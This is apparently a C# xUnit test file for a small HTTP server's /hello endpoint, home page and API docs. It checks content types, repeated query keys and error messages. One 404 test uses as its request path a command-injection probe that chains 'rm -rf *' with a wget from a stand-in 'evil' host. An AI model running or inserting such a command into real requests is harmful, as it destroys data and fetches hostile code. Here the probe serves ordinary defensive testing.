using System.Net;
using Mocean.Server.Tests.Infrastructure;

namespace Mocean.Server.Tests.Protocol;

public sealed class ConventionsTests(MoceanFactory factory) : IClassFixture<MoceanFactory>
{
    private readonly HttpClient client = factory.CreateClient();

    [Fact]
    public async Task HelloAnswersAShortGreetingInPlainText()
    {
        var reply = await client.GetAsync("/hello");
        Assert.Equal(HttpStatusCode.OK, reply.StatusCode);
        Assert.Equal("text/plain; charset=utf-8", reply.Content.Headers.ContentType?.ToString());
        Assert.Equal("hello! the Mocean server is up and listening.", await reply.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task FormatJsonGivesNamedFields()
    {
        var reply = await client.GetAsync("/hello?format=json");
        Assert.Equal("application/json; charset=utf-8", reply.Content.Headers.ContentType?.ToString());
        Assert.Equal("""{"greeting":"hello! the Mocean server is up and listening."}""", await reply.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task FormatJsonWinsOverClientBrowser()
    {
        var reply = await client.GetAsync("/hello?client=browser&format=json");
        Assert.Equal("application/json; charset=utf-8", reply.Content.Headers.ContentType?.ToString());
    }

    [Fact]
    public async Task ClientBrowserGivesASmallHtmlPage()
    {
        var reply = await client.GetAsync("/hello?client=browser");
        Assert.Equal("text/html; charset=utf-8", reply.Content.Headers.ContentType?.ToString());
        var page = await reply.Content.ReadAsStringAsync();
        Assert.StartsWith("<!doctype html>", page, StringComparison.Ordinal);
        Assert.Contains("<pre>hello! the Mocean server is up and listening.</pre>", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task KeysMatchCaseInsensitively()
    {
        var reply = await client.GetAsync("/hello?FORMAT=json");
        Assert.Equal("application/json; charset=utf-8", reply.Content.Headers.ContentType?.ToString());
    }

    [Fact]
    public async Task ARepeatedKeyIsRefusedWithOneLine()
    {
        var reply = await client.GetAsync("/hello?x=1&x=2");
        Assert.Equal(HttpStatusCode.BadRequest, reply.StatusCode);
        Assert.Equal("the key 'x' was given 2 times; send each key once", await reply.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task AKeyRepeatedInAnotherCaseIsStillRepeated()
    {
        var reply = await client.GetAsync("/hello?x=1&X=2");
        Assert.Equal(HttpStatusCode.BadRequest, reply.StatusCode);
    }

    [Fact]
    public async Task ARepeatedKeyInJsonModeIsAnErrorObject()
    {
        var reply = await client.GetAsync("/hello?x=1&x=2&format=json");
        Assert.Equal(HttpStatusCode.BadRequest, reply.StatusCode);
        Assert.Equal("""{"error":"the key 'x' was given 2 times; send each key once"}""", await reply.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task UnknownRoutesAreA404WithAHint()
    {
        var reply = await client.GetAsync("/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://evil");
        Assert.Equal(HttpStatusCode.NotFound, reply.StatusCode);
        Assert.Equal("there is no route /board.cgi here; GET / lists what runs on this server", await reply.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task AWrongMethodGetsA405WithOneLine()
    {
        var reply = await client.PostAsync("/hello", null);
        Assert.Equal(HttpStatusCode.MethodNotAllowed, reply.StatusCode);
        Assert.Equal("/hello takes GET, not POST: send GET with the parameters in the query string (as a browser's address bar does)",
            await reply.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task HomePageListsWhatRunsHereWithThisServersAddress()
    {
        var text = await client.GetStringAsync("/");
        Assert.Contains("http://localhost/steps?message=hello", text, StringComparison.Ordinal);
        Assert.Contains("/api-docs", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task HomePageIsHtmlForABrowser()
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "/");
        request.Headers.Add("Accept", "text/html,application/xhtml+xml");
        var reply = await client.SendAsync(request);
        Assert.Equal("text/html; charset=utf-8", reply.Content.Headers.ContentType?.ToString());
        Assert.Contains("<a href=\"http://localhost/api-docs\">", await reply.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task OpenApiDocumentListsTheRoutes()
    {
        var doc = await client.GetStringAsync("/openapi/v1.json");
        Assert.Contains("\"/hello\"", doc, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ApiPageIsServed()
    {
        var reply = await client.GetAsync("/api-docs");
        Assert.Equal(HttpStatusCode.OK, reply.StatusCode);
        Assert.Contains("text/html", reply.Content.Headers.ContentType?.ToString(), StringComparison.Ordinal);
    }
}
